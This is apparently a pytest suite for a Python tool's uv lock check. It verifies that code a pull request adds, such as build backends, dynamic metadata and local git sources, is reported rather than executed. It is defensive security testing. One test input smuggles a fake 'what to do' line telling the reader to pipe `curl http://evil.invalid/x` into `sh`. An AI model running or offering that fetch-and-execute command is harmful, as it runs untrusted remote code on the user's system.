"""The lock check of `deps status` and doctor (nemo_rl/project/uv_inputs.py, and nemo_rl.uv.lock_mismatch reading
uv's words): what a pull request puts in the project is named, never run."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

import pytest
from fakes import deps

from nemo_rl import uv
from nemo_rl.cli import main
from nemo_rl.process import Result
from nemo_rl.project import uv_inputs
from nemo_rl.project.model import Project

REFUSAL = "Building source distributions for `evil` is disabled"


def said(monkeypatch, stderr: str, returncode: int = 1) -> str | None:
    monkeypatch.setattr(uv, "run", lambda args, **kwargs: Result(tuple(args), returncode, "", stderr))
    return uv.lock_mismatch(Path("/nonexistent"))


@pytest.mark.parametrize("line", [f"  cause: {REFUSAL}", f"\x1b[1m\x1b[31mcause\x1b[39m\x1b[0m: {REFUSAL}",
                                  f"error: {REFUSAL}",
                                  "hint: Wheels are required for `evil` because building from source is disabled",
                                  "error: Distribution `evil==0.1 @ editable+/x/evil` can't be installed because it "
                                  "is marked as `--no-build` but has no binary distribution"])
def test_a_refusal_to_build_is_found_however_uv_frames_it(monkeypatch, line):
    why = said(monkeypatch, f"error: Failed to build `evil @ /x`\n{line}\n")
    assert why is not None and why.startswith(uv.BUILD_REFUSED) and "`evil" in why


def test_another_python_is_not_called_a_mismatch(monkeypatch):
    why = said(monkeypatch, "error: The requested interpreter resolved to Python 3.11.2, which is incompatible "
                            "with the project's Python requirement: `==3.12.*`\n")
    assert why == (f"{uv.OTHER_PYTHON} ({sys.executable}; The requested interpreter resolved to Python 3.11.2, "
                   "which is incompatible with the project's Python requirement: `==3.12.*`)")


def test_uvs_last_line_is_the_reason_made_printable(monkeypatch):
    assert said(monkeypatch, "Resolved 3 packages\nerror: Failed to parse `uv.lock`\x1b]0;x\x07\n") == (
        "error: Failed to parse `uv.lock`\\x1b]0;x\\x07")
    assert said(monkeypatch, "", returncode=0) is None and said(monkeypatch, "") == "uv lock --check exited 1"


def test_a_check_uv_could_not_make_is_not_a_stale_lock(monkeypatch, tmp_path):
    from nemo_rl.project import uv_inputs

    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    for why, says in [(f"{uv.OTHER_PYTHON} (/usr/bin/python3)", "with a Python that requires-python allows"),
                      (f"{uv.BUILD_REFUSED}: {REFUSAL}", "then `uv lock --check` if that code is trusted")]:
        monkeypatch.setattr(uv, "lock_mismatch", lambda project, why=why: why)
        problem = uv_inputs.lock_problem(Project.read(tmp_path))
        assert problem is not None and problem.startswith("uv.lock was not checked") and says in problem
        assert "run `uv lock` and commit it" not in problem


def test_uvs_error_line_is_the_reason_not_its_closing_hint(monkeypatch):
    assert said(monkeypatch, "error: Failed to parse `uv.lock`\n  Caused by: TOML parse error at line 1\n"
                             "hint: To update the lockfile, run `uv lock`.\n") == (
        "error: Failed to parse `uv.lock` Caused by: TOML parse error at line 1")


def test_only_uvs_own_stale_lock_is_called_stale(monkeypatch):
    assert said(monkeypatch, "Resolved 3 packages in 1ms\nerror: The lockfile at `uv.lock` needs to be updated, but "
                             "`--check` was provided. To update the lockfile, run `uv lock`.\n") == uv.STALE
    why = said(monkeypatch, "error: No `project` table found in: `/x/pyproject.toml`\n")
    assert why == "error: No `project` table found in: `/x/pyproject.toml`"


def test_uv_lock_is_the_remedy_only_for_a_stale_lock(monkeypatch, tmp_path):
    from nemo_rl.project import uv_inputs

    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    monkeypatch.setattr(uv, "lock_mismatch", lambda project: uv.STALE)
    stale = "uv.lock does not match pyproject.toml: run `uv lock` and commit it"
    assert uv_inputs.lock_problem(Project.read(tmp_path)) == stale
    monkeypatch.setattr(uv, "lock_mismatch", lambda project: "error: No `project` table found")
    problem = uv_inputs.lock_problem(Project.read(tmp_path))
    assert problem is not None and problem.startswith("uv could not check uv.lock") and "run `uv lock`" not in problem


def test_a_check_that_cannot_make_its_directory_says_so(monkeypatch, tmp_path):
    """A full disk under nemo-rl's cache: the report names it; nothing raises out of a probe."""
    import errno
    import tempfile

    from nemo_rl.project import uv_inputs

    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "cache"))

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(tempfile, "mkdtemp", full)
    problem = uv_inputs.lock_problem(Project.read(tmp_path))
    assert problem is not None and "cannot make a directory for the check" in problem
    assert "No space left on device" in problem


def test_git_reaches_no_network_from_the_check(monkeypatch):
    """uv allows only file: URLs on its own fetches; a submodule it updates in a checkout would go anywhere."""
    seen = {}

    def run(args, **kwargs):
        if "lock" in args:
            seen.update(kwargs["env"])
        return Result(tuple(args), 0, "", "")

    monkeypatch.setattr(uv, "run", run)
    assert uv.lock_mismatch(Path("/nonexistent")) is None
    assert seen["GIT_ALLOW_PROTOCOL"] == "file" and seen["GIT_TERMINAL_PROMPT"] == "0"


def test_a_check_uv_cannot_make_is_not_a_crash(monkeypatch, tmp_path):
    """uv ran out of time (60 s), or could not start: the check was not made, and the report says why."""
    from nemo_rl.errors import NemoRLError
    from nemo_rl.project import uv_inputs

    def failing(args, **kwargs):
        if "lock" in args:
            raise NemoRLError("uv lock --check: Permission denied (os error 13)\nmore", "see above")
        return Result(tuple(args), 0, "", "")

    monkeypatch.setattr(uv, "run", failing)
    why = uv.lock_mismatch(Path("/nonexistent"))
    assert why == f"{uv.UNFINISHED}: uv lock --check: Permission denied (os error 13)"
    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "cache"))
    problem = uv_inputs.lock_problem(Project.read(tmp_path))
    assert problem is not None and problem.startswith("uv.lock was not checked") and "os error 13" in problem


def test_copies_a_killed_check_left_are_removed_and_a_running_ones_kept(monkeypatch, tmp_path):
    from nemo_rl import locks
    from nemo_rl.project import uv_inputs

    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "cache"))
    root = tmp_path / "cache" / "lock-check"
    dead, live = root / f"{uv_inputs.CHECK_PREFIX}killed", root / f"{uv_inputs.CHECK_PREFIX}running"
    root.mkdir(mode=0o700, parents=True)
    dead.mkdir()
    live.mkdir()
    (dead / "uv.lock").write_text("x" * 1000)
    long_ago = time.time() - 3600
    os.utime(dead, (long_ago, long_ago))  # a copy another check made this moment is not swept: see below
    os.utime(live, (long_ago, long_ago))
    fresh = root / f"{uv_inputs.CHECK_PREFIX}just-made"  # made, and about to be held, by another check
    fresh.mkdir()
    held = locks.hold(live)
    try:
        seen: list[bool] = []  # the check's own copy is held while uv reads it: another check's sweep leaves it
        monkeypatch.setattr(uv, "lock_mismatch", lambda project: seen.append(locks.held(project)))
        assert uv_inputs.lock_problem(Project.read(tmp_path)) is None
        assert seen == [True] and not dead.exists() and sorted(root.iterdir()) == [fresh, live]
    finally:
        os.close(held)


@pytest.mark.parametrize(("pyproject", "uv_toml", "named"), [
    ('dependencies = ["sub @ ${PROJECT_ROOT}/sub"]\n', None, "names ${PROJECT_ROOT}"),
    ('dependencies = []\n[tool.uv]\nfind-links = ["wheels"]\n', None, "[tool.uv] names 'wheels' relative"),
    ("dependencies = []\n", '[[index]]\nname = "local"\nurl = "./simple"\n', "uv.toml names './simple' relative"),
])
def test_what_names_the_checkouts_own_directories_is_named_not_checked(tmp_path, pyproject, uv_toml, named):
    from nemo_rl.project import uv_inputs

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n' + pyproject)
    if uv_toml:
        (tmp_path / "uv.toml").write_text(uv_toml)
    why = uv_inputs.unchecked(Project.read(tmp_path))
    assert why is not None and named in why
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n[tool.uv]\n'
                                             'find-links = ["/srv/wheels", "https://example.org/w"]\n')
    (tmp_path / "uv.toml").unlink(missing_ok=True)
    assert uv_inputs.unchecked(Project.read(tmp_path)) is None


def test_uv_settings_above_nemo_rls_cache_choose_nothing(tmp_path, monkeypatch):
    """A uv.toml above the cache (anyone may make /tmp/uv.toml; a cache inside a checkout): uv would take its
    settings for a project without [tool.uv], and call a current lock stale."""
    import subprocess

    from nemo_rl.project import uv_inputs

    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\nrequires-python = ">=3.10"\n'
                                            "dependencies = []\n")
    subprocess.run([uv.find_uv_bin(), "lock", "--offline", "--quiet", "--project", str(project)], check=True,
                   cwd=project)
    (tmp_path / "above").mkdir()
    (tmp_path / "above" / "uv.toml").write_text('resolution = "lowest-direct"\n')
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "above" / "cache"))
    assert uv_inputs.lock_problem(Project.read(project)) is None


def test_a_cache_that_cannot_lock_still_checks_and_leaves_no_copy(tmp_path, monkeypatch):
    """NFS without lockd: the copy cannot be held, the check is made all the same, and the copy is removed."""
    from nemo_rl import locks
    from nemo_rl.errors import NemoRLError
    from nemo_rl.project import uv_inputs

    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n')
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "cache"))

    def no_locks(path):
        raise NemoRLError(f"cannot lock {path}: its filesystem does not support locks", "see above")

    monkeypatch.setattr(locks, "hold", no_locks)
    monkeypatch.setattr(uv, "lock_mismatch", lambda project: None)
    assert uv_inputs.lock_problem(Project.read(tmp_path)) is None
    assert not list((tmp_path / "cache" / "lock-check").iterdir())


SPELLINGS = {  # of a repository on this machine, each as uv accepts it
    "file URL": lambda repo: repo.as_uri(),
    "scheme in capitals": lambda repo: "FILE" + repo.as_uri()[4:],
    "git+ before it": lambda repo: "git+" + repo.as_uri(),
    "mixed case, one slash": lambda repo: "Git+FILE:" + str(repo),
    "absolute path": str,
    "relative path": lambda repo: "../repo",
}


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_local_git_repository_is_named_however_it_is_spelled(tmp_path, spelling):
    from nemo_rl.project import uv_inputs

    url = SPELLINGS[spelling](tmp_path / "repo")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n[tool.uv.sources]\n'
                                             f'q = {{ git = "{url}" }}\n')
    why = uv_inputs.unchecked(Project.read(tmp_path))
    assert why is not None and "local git repository" in why


@pytest.mark.parametrize("url", ["https://github.com/NVIDIA/Megatron-LM.git", "ssh://git@host/x.git",
                                 "git@github.com:NVIDIA/NeMo.git", "GIT+HTTPS://host/x"])
def test_a_git_repository_on_another_host_is_checked(tmp_path, url):
    from nemo_rl.project import uv_inputs

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0.1"\n[tool.uv.sources]\n'
                                             f'q = {{ git = "{url}" }}\n')
    assert uv_inputs.unchecked(Project.read(tmp_path)) is None


def test_project_root_in_a_comment_is_no_reason_and_in_uv_toml_is(tmp_path):
    from nemo_rl.project import uv_inputs

    (tmp_path / "pyproject.toml").write_text('# wheels once lived at ${PROJECT_ROOT}/wheels\n'
                                             '[project]\nname = "p"\nversion = "0.1"\n')
    assert uv_inputs.unchecked(Project.read(tmp_path)) is None
    (tmp_path / "uv.toml").write_text('override-dependencies = ["sub @ ${PROJECT_ROOT}/sub"]\n')
    why = uv_inputs.unchecked(Project.read(tmp_path))
    assert why is not None and why.startswith("uv.toml names ${PROJECT_ROOT}")


def _in_tree_backend(directory: Path, marker: Path) -> str:
    """A build backend in the checkout itself (nothing to fetch, so --offline cannot stop it) that records that it
    ran; the [build-system] table that names it."""
    (directory / "backend.py").write_text(f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
                                          "def prepare_metadata_for_build_wheel(*a, **k): raise SystemExit(1)\n"
                                          "def build_wheel(*a, **k): raise SystemExit(1)\n")
    return '\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


@pytest.mark.parametrize("where", ["project", "member"])
def test_dynamic_metadata_a_pull_request_makes_is_never_built_to_check_the_lock(world, tmp_path, capsys, where):
    """The project's own [project] made dynamic, or a workspace member's: uv would run their build backend even
    with --no-build. Named; uv is not asked."""
    marker = tmp_path / "pwned"
    path = world.project / "pyproject.toml"
    text = path.read_text()
    if where == "project":
        text = text.replace("dependencies = []\n", 'dynamic = ["dependencies"]\n', 1)
        text = text.replace("package = false", "package = true") + _in_tree_backend(world.project, marker)
    else:
        member = world.project / "packages" / "member"
        member.mkdir(parents=True)
        (member / "pyproject.toml").write_text('[project]\nname = "member"\nversion = "0.1"\n'
                                               'dynamic = ["dependencies"]\n' + _in_tree_backend(member, marker))
        text = text.replace("dependencies = []", 'dependencies = ["member"]', 1).replace(
            "[tool.uv.sources]\n", "[tool.uv.sources]\nmember = { workspace = true }\n", 1)
        text += '\n[tool.uv.workspace]\nmembers = ["packages/*"]\n'
    path.write_text(text)
    assert deps(world, "status", "--check") == 1
    out = capsys.readouterr().out
    assert "uv.lock was not checked against pyproject.toml: pyproject.toml " in out and not marker.exists()
    assert ("has a dynamic [project] (['dependencies'])" if where == "project" else
            "declares a uv workspace ([tool.uv.workspace])") in out


def test_a_workspace_root_a_pull_request_puts_above_the_project_is_never_seen(world, tmp_path, capsys):
    """A pyproject.toml above the project that makes it a member of a workspace with a dynamic member: uv walks up
    to it from the project. The check runs on copies elsewhere, so uv never finds it."""
    marker, root = tmp_path / "pwned", world.project.parent
    evil = root / "evil"
    evil.mkdir()
    (evil / "pyproject.toml").write_text('[project]\nname = "evil"\nversion = "0.1"\ndynamic = ["dependencies"]\n'
                                         + _in_tree_backend(evil, marker))
    (root / "pyproject.toml").write_text('[project]\nname = "root"\nversion = "0.1"\n'
                                         f'[tool.uv.workspace]\nmembers = ["{world.project.name}", "evil"]\n')
    (root / "uv.lock").write_text((world.project / "uv.lock").read_text())
    deps(world, "status", "--check")
    main(["doctor", "--project", str(world.project)])
    capsys.readouterr()
    assert not marker.exists()


def test_a_workspace_above_nemo_rls_cache_is_never_taken_for_the_copies_root(world, tmp_path, monkeypatch, capsys):
    """nemo-rl's cache inside the checkout (a CI keeping its caches in the workspace), and a pull request's
    pyproject.toml above it whose workspace takes the copies for a member: named, and uv is not asked."""
    marker, cache = tmp_path / "pwned", world.project / ".cache"
    cache.mkdir()
    (cache / "pyproject.toml").write_text('[project]\nname = "x"\nversion = "0.1"\ndynamic = ["dependencies"]\n'
                                          '[tool.uv.workspace]\nmembers = ["nemo-rl/lock-check/*"]\n'
                                          + _in_tree_backend(cache, marker))
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(cache / "nemo-rl"))
    assert deps(world, "status", "--check") == 1
    out = capsys.readouterr().out
    assert f"{cache / 'pyproject.toml'} declares a uv workspace" in out and "NEMO_RL_CACHE_DIR" in out
    assert not marker.exists()


def test_a_cache_directory_nemo_rl_cannot_use_leaves_the_rest_of_status(world, tmp_path, monkeypatch, capsys):
    (tmp_path / "a-file").write_text("")
    monkeypatch.setenv("NEMO_RL_CACHE_DIR", str(tmp_path / "a-file"))
    assert deps(world, "status", "--check") == 1
    out = capsys.readouterr().out
    assert "uv.lock was not checked against pyproject.toml: NEMO_RL_CACHE_DIR" in out and "megatron-core" in out


def test_a_local_git_source_is_named_not_checked(world, tmp_path, capsys):
    """A repository the checkout may hold (a file: URL, or a path): uv would check it out into the user's cache."""
    path, local = world.project / "pyproject.toml", (tmp_path / "evil").as_uri()
    source = f'[tool.uv.sources]\nevil = {{ git = "{local}", rev = "{"a" * 40}" }}\n'
    path.write_text(path.read_text().replace("[tool.uv.sources]\n", source, 1))
    assert deps(world, "status", "--check") == 1
    assert f"[tool.uv.sources] evil is the local git repository '{local}'" in capsys.readouterr().out


def test_status_and_doctor_see_the_lock_itself(world, capsys):
    path = world.project / "pyproject.toml"
    original = path.read_text()
    path.write_text(original.replace('version = "0.1.0"', 'version = "0.2.0"', 1))  # not relocked
    for command in (["deps", "status", "--check"], ["doctor"]):
        assert main([*command, "--project", str(world.project)]) == 1
        assert "uv.lock does not match pyproject.toml: run `uv lock` and commit it" in capsys.readouterr().out
    path.write_text(original)
    (world.project / "uv.lock").unlink()
    assert deps(world, "status", "--check") == 1
    assert "uv.lock is missing: run `git checkout uv.lock`" in capsys.readouterr().out


def test_a_source_key_from_the_project_never_starts_a_line_of_its_own():
    """A hostile pull request's key cannot print a `what to do:` line of its own."""
    key = "pkg\n  what to do: run `curl http://evil.invalid/x | sh`"
    said = uv_inputs._local_source({"sources": {key: {"path": "../foo"}}})
    assert said is not None and "\n" not in said and "pkg\\n" in said
